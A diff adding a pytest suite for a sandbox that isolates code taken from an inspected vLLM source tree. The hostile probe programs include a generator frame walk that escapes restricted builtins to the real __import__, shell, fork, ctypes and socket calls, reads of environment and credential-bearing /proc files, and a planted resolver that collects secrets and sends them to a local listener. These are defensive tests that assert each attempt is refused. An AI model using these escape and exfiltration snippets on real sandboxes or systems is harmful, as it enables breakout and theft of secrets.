@@ -1,0 +1,450 @@
+"""The isolation boundary around code taken from an inspected tree.
+
+Each hostile program is written as a hostile peer would write it: it walks
+frames (a generator's ``gi_frame``, ``f_back``, ``f_builtins``) out of the
+restricted builtins to the real ``__import__``, then tries to run commands,
+write and read files, open sockets and leave processes behind. The Python
+level is escaped (the first test proves it); the OS boundary must hold, and
+the probe must have no answer: the call raises, or the run ends as a
+SandboxError, which every probe turns into an unknown.
+"""
+
+import json
+import os
+import re
+import resource
+import shutil
+import socket
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import pytest
+from conftest import check_json
+
+from dflash_doctor.draft import lockdown
+from dflash_doctor.draft.extract import Locator, ProgramBuilder
+from dflash_doctor.draft.probes import PROBED_FILES
+from dflash_doctor.draft.sandbox import Call, SandboxError, child_program, isolation_status, run, run_isolated
+from dflash_doctor.source import DirectoryTree
+
+DRAFTERS = Path(__file__).parent / "data" / "drafters"
+QWEN36 = DRAFTERS / "qwen3.6-27b-dflash.json"
+SECRET = "dflash-doctor-test-secret-5c1f"
+
+# Out of the restricted builtins, as an attacker would: a running generator's
+# frame leads up the stack to the interpreter's real builtins.
+WALK = '''
+def _top_frame():
+    box = []
+
+    def walk():
+        frame = box[0].gi_frame.f_back
+        while frame.f_back is not None:
+            frame = frame.f_back
+        yield frame
+
+    box.append(walk())
+    return next(box[0])
+
+
+def _real(name):
+    return _top_frame().f_builtins[name]
+
+
+def _module(name):
+    return _real("_" + "_import__")(name)
+'''
+
+
+def program_for(tmp_path: Path, source: str, name: str):
+    """The probe program for function ``name`` of a tree holding WALK and ``source``."""
+    root = tmp_path / "tree"
+    (root / "vllm").mkdir(parents=True)
+    (root / "vllm" / "__init__.py").write_text("")
+    (root / "vllm" / "probed.py").write_text(WALK + textwrap.dedent(source))
+    tree = DirectoryTree(root, None)
+    builder = ProgramBuilder(tree, ())
+    builder.function(Locator(tree, [("vllm/probed.py", name)]).one("vllm/probed.py", name))
+    return builder.chunks, {gap: {"$gap": label} for gap, label in builder.gaps.items()}
+
+
+def run_hostile(tmp_path: Path, source: str, expr: str):
+    """The outcome of ``expr`` (a call of the last function in ``source``) in the sandbox."""
+    name = re.findall(r"^def (\w+)", textwrap.dedent(source), re.M)[-1]
+    chunks, globals_ = program_for(tmp_path, source, name)
+    return run(chunks, [Call("x", expr)], {}, globals_)["x"]
+
+
+def request_for(tmp_path: Path, source: str, expr: str, **limits) -> bytes:
+    """A harness request as sandbox.run builds it, with lockdown limits of our own."""
+    name = re.findall(r"^def (\w+)", textwrap.dedent(source), re.M)[-1]
+    chunks, globals_ = program_for(tmp_path, source, name)
+    return json.dumps({
+        "globals": globals_, "program": [{"name": c.name, "source": c.source} for c in chunks], "data": {},
+        "calls": [{"id": "x", "expr": expr, "bind": {}}], "call_timeout_s": 1.0, "limits": limits,
+    }).encode()
+
+
+def my_children() -> list[str]:
+    """Processes (alive or zombie) whose parent is this test process."""
+    found = []
+    for stat in Path("/proc").glob("[0-9]*/stat"):
+        try:
+            fields = stat.read_text().rsplit(")", 1)[1].split()
+        except (OSError, IndexError):
+            continue
+        if int(fields[1]) == os.getpid():
+            found.append(stat.parent.name)
+    return found
+
+
+def processes_with(token: str) -> list[str]:
+    found = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if token in cmdline.read_bytes().decode(errors="replace"):
+                found.append(cmdline.parent.name)
+        except OSError:
+            continue
+    return found
+
+
+@pytest.fixture
+def listener():
+    """A TCP listener on 127.0.0.1: the test asserts no connection arrives."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(8)
+    server.setblocking(False)
+    yield server
+    server.close()
+
+
+def nothing_arrived(server: socket.socket) -> bool:
+    time.sleep(0.2)
+    try:
+        server.accept()[0].close()
+    except BlockingIOError:
+        return True
+    return False
+
+
+# -- the boundary is there -----------------------------------------------------------------
+
+
+def test_isolation_is_in_force_on_this_machine():
+    # CI is Linux x86_64 as root: the suite fails loudly if the boundary degrades.
+    ok, layers = isolation_status()
+    assert ok, layers
+    assert "no_new_privs" in layers and "rlimits" in layers and "seccomp" in layers
+
+
+@pytest.mark.parametrize("arch, header, prefix", [
+    ("x86_64", "/usr/include/x86_64-linux-gnu/asm/unistd_64.h", "__NR_"),
+    ("aarch64", "/usr/include/asm-generic/unistd.h", r"__NR(?:3264)?_"),
+])
+def test_syscall_numbers_match_the_kernel_headers(arch, header, prefix):
+    if not Path(header).is_file():
+        pytest.skip(f"{header} is not installed")
+    text = Path(header).read_text()
+    table = lockdown.ARCHES[arch]["syscalls"]
+    assert set(lockdown.ALLOWED) <= set(table)
+    for name, number in table.items():
+        found = re.search(rf"#define {prefix}{name}\s+(\d+)\b", text)
+        assert found and int(found.group(1)) == number, name
+
+
+def test_the_frame_walk_does_reach_the_real_import(tmp_path):
+    # The Python-level sandbox is escaped: only the OS boundary stands after this.
+    outcome = run_hostile(tmp_path, """
+        def escapes():
+            return _module("sys").platform + " " + str(_module("sys").flags.isolated)
+    """, "escapes()")
+    assert outcome.value == f"{sys.platform} 1"
+
+
+# -- escapes, each refused ---------------------------------------------------------------------
+
+
+def test_a_shell_command_never_runs_and_ends_the_run(tmp_path):
+    marker = tmp_path / "ran"
+    with pytest.raises(SandboxError, match="forbids"):
+        run_hostile(tmp_path, """
+            def escapes(marker):
+                return _module("os").system("touch " + marker)
+        """, f"escapes({str(marker)!r})")
+    assert not marker.exists()
+
+
+def test_fork_and_spawn_are_refused_and_nothing_is_left_running(tmp_path):
+    for index, action in enumerate(("os.fork()", "os.posix_spawn('/bin/sleep', ['sleep', '77.123'], {})")):
+        with pytest.raises(SandboxError, match="forbids"):
+            run_hostile(tmp_path / str(index), f"""
+                def escapes():
+                    os = _module("os")
+                    return {action}
+            """, "escapes()")
+    assert processes_with("77.123") == []
+    assert my_children() == []
+
+
+def test_subprocess_cannot_even_be_imported(tmp_path):
+    outcome = run_hostile(tmp_path, """
+        def escapes():
+            return _module("subprocess").run(["sleep", "77.321"]).returncode
+    """, "escapes()")
+    assert not outcome.ok and outcome.error_type in ("PermissionError", "ModuleNotFoundError", "ImportError")
+    assert processes_with("77.321") == []
+
+
+def test_subclasses_lead_to_os_whose_calls_are_refused(tmp_path):
+    outcome = run_hostile(tmp_path, """
+        def escapes():
+            get = _real("getattr")
+            base = get(get((), "_" + "_class__"), "_" + "_base__")
+            for cls in get(base, "_" + "_subclasses__")():
+                if get(cls, "_" + "_name__") == "_wrap_close":
+                    return get(get(cls, "_" + "_init__"), "_" + "_globals__")["listdir"]("/")
+    """, "escapes()")
+    assert outcome.error_type == "PermissionError"
+
+
+def test_sys_modules_os_reads_nothing(tmp_path):
+    outcome = run_hostile(tmp_path, """
+        def escapes():
+            return _module("sys").modules["os"].listdir("/etc")
+    """, "escapes()")
+    assert outcome.error_type == "PermissionError"
+
+
+def test_ctypes_system_calls_are_refused(tmp_path):
+    marker = tmp_path / "made-by-ctypes"
+    outcome = run_hostile(tmp_path, """
+        def escapes(path):
+            libc = _module("ctypes").CDLL(None)
+            return libc.open(path.encode(), 0o101, 0o644)
+    """, f"escapes({str(marker)!r})")
+    assert outcome.value == -1
+    assert not marker.exists()
+    with pytest.raises(SandboxError, match="forbids"):
+        run_hostile(tmp_path / "2", """
+            def escapes():
+                return _module("ctypes").CDLL(None).fork()
+        """, "escapes()")
+
+
+def test_no_socket_reaches_a_listener(tmp_path, listener):
+    port = listener.getsockname()[1]
+    outcome = run_hostile(tmp_path, """
+        def escapes(port):
+            conn = _module("socket").create_connection(("127.0.0.1", port))
+            return conn.send(b"hello")
+    """, f"escapes({port})")
+    assert not outcome.ok
+    with pytest.raises(SandboxError, match="forbids"):
+        run_hostile(tmp_path / "2", """
+            def escapes():
+                return _module("ctypes").CDLL(None).socket(2, 1, 0)
+        """, "escapes()")
+    assert nothing_arrived(listener)
+
+
+def test_no_file_is_written_created_or_removed(tmp_path):
+    marker = tmp_path / "marker"
+    keep = tmp_path / "keep"
+    keep.write_text("mine")
+    tmp_marker = Path("/tmp") / f"dflash-doctor-escape-{os.getpid()}"
+    for action in (
+        f"open({str(marker)!r}, 'w').write('escaped')",
+        f"open({str(tmp_marker)!r}, 'w').write('escaped')",
+        f"os.unlink({str(keep)!r})",
+        f"os.rename({str(keep)!r}, {str(marker)!r})",
+        f"os.mkdir({str(marker)!r})",
+        f"os.symlink({str(keep)!r}, {str(marker)!r})",
+    ):
+        outcome = run_hostile(tmp_path / str(abs(hash(action))), f"""
+            def writes():
+                open, os = _real("open"), _module("os")
+                return {action}
+        """, "writes()")
+        assert outcome.error_type == "PermissionError", action
+    assert not marker.exists() and not tmp_marker.exists()
+    assert keep.read_text() == "mine"
+
+
+def test_files_and_the_operators_environment_stay_unread(tmp_path, monkeypatch):
+    monkeypatch.setenv("DFLASH_DOCTOR_SECRET", SECRET)
+    hostname = Path("/etc/hostname").read_text().strip()
+    for expr in ("read('/etc/hostname')", "read('/proc/self/environ')", "read('/proc/1/environ')"):
+        outcome = run_hostile(tmp_path / str(abs(hash(expr))), """
+            def read(path):
+                return _real("open")(path).read()
+        """, expr)
+        assert outcome.error_type == "PermissionError", expr
+    outcome = run_hostile(tmp_path, """
+        def environment():
+            return dict(_module("os").environ)
+    """, "environment()")
+    assert SECRET not in json.dumps(outcome.value)
+    assert not any(key.startswith(("PYTHON", "DFLASH", "SSH", "PATH")) for key in outcome.value)
+    assert hostname not in json.dumps(outcome.value)
+
+
+def test_the_working_directory_is_empty_and_removed(tmp_path):
+    outcome = run_hostile(tmp_path, """
+        def where():
+            return _module("os").getcwd()
+    """, "where()")
+    # getcwd is refused too; the parent removes the directory either way.
+    assert outcome.error_type == "PermissionError"
+    assert not list(Path(os.environ.get("TMPDIR", "/tmp")).glob("dflash-doctor-child-*"))
+
+
+# -- bounds -----------------------------------------------------------------------------------
+
+
+def test_cpu_spin_that_swallows_the_call_timer_is_killed_by_the_cpu_limit(tmp_path):
+    request = request_for(tmp_path, """
+        def spins():
+            everything = _real("BaseException")
+            while True:
+                try:
+                    while True:
+                        pass
+                except everything:
+                    pass
+    """, "spins()", cpu_s=1)
+    start = time.monotonic()
+    result = run_isolated(child_program(), request, wall_s=30, max_output_bytes=1 << 16)
+    assert "CPU time limit" in result.failure()
+    assert time.monotonic() - start < 10
+
+
+def test_a_child_that_blocks_without_cpu_is_killed_at_the_one_deadline(tmp_path):
+    request = request_for(tmp_path, """
+        def blocks():
+            everything = _real("BaseException")
+            lock = _module("_thread").allocate_lock()
+            lock.acquire()
+            while True:
+                try:
+                    lock.acquire()
+                except everything:
+                    pass
+    """, "blocks()")
+    start = time.monotonic()
+    with pytest.raises(SandboxError, match="within 1.5 s"):
+        run_isolated(child_program(), request, wall_s=1.5, max_output_bytes=1 << 16)
+    assert time.monotonic() - start < 5
+    assert my_children() == []
+
+
+def test_a_memory_balloon_is_bounded_and_measured(tmp_path):
+    request = request_for(tmp_path, """
+        def balloons():
+            held = []
+            while True:
+                held.append(b"x" * (1 << 20))
+    """, "balloons()", memory_bytes=192 << 20)
+    result = run_isolated(child_program(), request, wall_s=30, max_output_bytes=1 << 16)
+    assert result.failure() is None
+    assert json.loads(result.stdout)["results"]["x"]["error"]["type"] == "MemoryError"
+    assert 100 << 20 < result.peak_rss_bytes < 192 << 20
+
+
+FLOOD = '''
+import json, resource, sys
+from dflash_doctor.draft.sandbox import Call, Chunk, SandboxError, run
+source = sys.argv[1] + """
+def floods():
+    out = _module("sys").stdout
+    while True:
+        out.write("x" * 65536)
+"""
+try:
+    run([Chunk("floods", source)], [Call("x", "floods()")], {}, {})
+    error = None
+except SandboxError as exc:
+    error = str(exc)
+print(json.dumps({"error": error, "peak": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024}))
+'''
+
+
+def test_an_output_flood_is_cut_at_the_cap_and_the_parent_stays_small():
+    proc = subprocess.run([sys.executable, "-c", FLOOD, WALK], capture_output=True, text=True, timeout=120)
+    answer = json.loads(proc.stdout)
+    assert "wrote more than" in answer["error"]
+    assert answer["peak"] < 120 << 20, answer["peak"]
+
+
+# -- end to end: a real 0.33.0 tree whose resolver escapes ------------------------------------------
+
+
+ESCAPE_BODY = '''
+        box = []
+
+        def walk():
+            frame = box[0].gi_frame.f_back
+            while frame.f_back is not None:
+                frame = frame.f_back
+            yield frame
+
+        box.append(walk())
+        real = next(box[0]).f_builtins
+        os_module = real["_" + "_import__"]("os")
+'''
+RESOLVER_START = "        if not (self.speculative_config and self.speculative_config.draft_model_config):\n            return None\n"
+
+
+def hostile_tree(mini_tree, release, action: str) -> Path:
+    """A copy of the real 0.33.0 files the checks read, whose V1 aux-layer resolver escapes first."""
+    tree = mini_tree("0.33.0")
+    source = release("0.33.0")
+    for relpath in PROBED_FILES:
+        if (source / relpath).is_file():
+            (tree / relpath).parent.mkdir(parents=True, exist_ok=True)
+            shutil.copy2(source / relpath, tree / relpath)
+    runner = tree / "vllm/v1/worker/gpu_model_runner.py"
+    text = runner.read_text()
+    assert text.count(RESOLVER_START) == 1
+    runner.write_text(text.replace(RESOLVER_START, ESCAPE_BODY + textwrap.indent(action, " " * 8) + "\n" + RESOLVER_START))
+    return tree
+
+
+@pytest.mark.release
+def test_cli_a_resolver_that_runs_commands_leaves_no_trace_and_the_probes_are_unknown(mini_tree, release, tmp_path):
+    marker = tmp_path / "pwned"
+    tree = hostile_tree(mini_tree, release, f'os_module.system("touch {marker}; sleep 300 # 77.999")\n')
+    code, report = check_json("--path", str(tree), "--draft-config", str(QWEN36),
+                              env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET})
+    assert code == 0  # the fixes are there; nothing escaped to change that or to crash
+    probes = report["probes"]
+    assert probes["aux_layer_ids"] is None
+    assert "forbids" in probes["reason"]["aux_layer_ids"]
+    assert not marker.exists()
+    assert processes_with("77.999") == []
+
+
+@pytest.mark.release
+def test_cli_a_resolver_that_exfiltrates_gets_nothing_out(mini_tree, release, tmp_path, listener):
+    port = listener.getsockname()[1]
+    tree = hostile_tree(mini_tree, release, textwrap.dedent(f"""
+        loot = repr(dict(os_module.environ))
+        loot += real["open"]("/etc/hostname").read()
+        real["open"]("{tmp_path / 'loot'}", "w").write(loot)
+        real["_" + "_import__"]("socket").create_connection(("127.0.0.1", {port})).sendall(loot.encode())
+        return tuple(len(loot) for _ in range(5))
+    """))
+    code, report = check_json("--path", str(tree), "--draft-config", str(QWEN36),
+                              env={**os.environ, "DFLASH_DOCTOR_SECRET": SECRET})
+    assert code == 0
+    text = json.dumps(report)
+    assert SECRET not in text and Path("/etc/hostname").read_text().strip() not in text
+    probes = report["probes"]
+    assert probes["aux_layer_ids_by_runner"]["v1"] == "unknown"
+    assert "PermissionError" in json.dumps(probes["reason"])
+    assert not (tmp_path / "loot").exists()
+    assert nothing_arrived(listener)
